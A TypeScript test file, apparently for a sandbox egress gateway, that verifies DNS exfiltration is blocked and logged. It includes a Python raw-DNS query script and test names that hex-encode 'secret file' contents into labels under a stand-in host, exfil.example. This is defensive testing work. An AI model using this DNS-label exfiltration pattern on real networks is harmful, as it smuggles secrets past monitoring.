// Must not happen: what a sandbox asks the DNS of the gateway is asked on, so that a name carries data out, or a sandbox
// reaches another resolver. The world beyond the gateway listens on port 53 of every address there is.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { eventually } from '../../support/eventually.ts';
import { addresses, door, type GatewayNetwork, openGatewayNetwork } from '../../support/gateway-network.ts';
import { makeTestCa } from '../../support/test-ca.ts';

const farCa = makeTestCa();
let network: GatewayNetwork;
let id: string;

beforeAll(async () => {
  network = await openGatewayNetwork({
    farCa,
    names: ['api.example.com'],
    document: () => ({ allow: [{ host: 'api.example.com' }, { host: '*.corp.example.com' }] }),
    listen: [door.v4],
  });
  network.gateway.configure('sysctl', '-qw', 'net.ipv4.ip_forward=0');
  id = await network.register({ container_ip: addresses.first.v4 });
});

afterAll(() => network.end());

// Asks for names over UDP and TCP and prints the answer code of each; `-` for none.
const asking = `
import socket, struct, sys
server, names = sys.argv[1], sys.argv[2:]
is_door = server == '${door.v4}'
def question(name, kind):
    labels = b''.join(bytes([len(one)]) + one.encode() for one in name.split('.'))
    return struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1)
for name in names:
    for kind in (1, 28, 16, 15, 255) if is_door else (1,):
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.settimeout(2 if is_door else 0.5)
        try:
            udp.sendto(question(name, kind), (server, 53))
            print(udp.recv(512)[3] & 15, end=' ')
        except OSError:
            print('-', end=' ')
    try:
        tcp = socket.create_connection((server, 53), 0.5)
        message = question(name, 1)
        tcp.sendall(struct.pack('>H', len(message)) + message)
        print(tcp.recv(512)[5] & 15)
    except OSError:
        print('-')
`;

async function ask(server: string, ...names: string[]): Promise<string[]> {
  const run = await network.first.run(['python3', '-c', asking, server, ...names]);
  expect(run).toMatchObject({ code: 0, stderr: '' });
  return run.stdout.trim().split('\n');
}

const stolen = Buffer.from('the contents of a secret file').toString('hex');

describe('a question ends at the door', () => {
  test('data in the labels of a foreign name is told that there is no such name, and is written down', async () => {
    const name = `${stolen}.exfil.example`;
    expect(await ask(door.v4, name)).toEqual(['3 3 5 3 5 3']);
    const record = await eventually(() => network.journal().find((one) => one.host === name), 'its record');
    expect(record).toMatchObject({
      sandbox: id,
      kind: 'lookup',
      code: 'domain.not-allowed',
      door: `gateway ${door.v4}`,
    });
  });

  test('data in the labels of a name that a wildcard allows is answered here, and goes no further', async () => {
    expect(await ask(door.v4, `${stolen}.corp.example.com`)).toEqual(['0 0 5 0 5 0']);
  });

  test('another resolver is not reached, on the network or beyond the gateway', async () => {
    const servers = ['192.0.2.53', '198.51.100.7', addresses.second.v4];
    for (const server of servers) expect(await ask(server, `${stolen}.exfil.example`)).toEqual(['- -']);
  });

  test('the world beyond heard nothing of it, though it hears every question that leaves', async () => {
    expect(network.heardOutside()).toBe('');
    const control = `import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'heard', ('198.51.100.7', 53))`;
    await network.gateway.run(['python3', '-c', control]);
    await eventually(() => network.heardOutside() === `${Buffer.from('heard').toString('hex')}\n`, 'the control');
  });
});
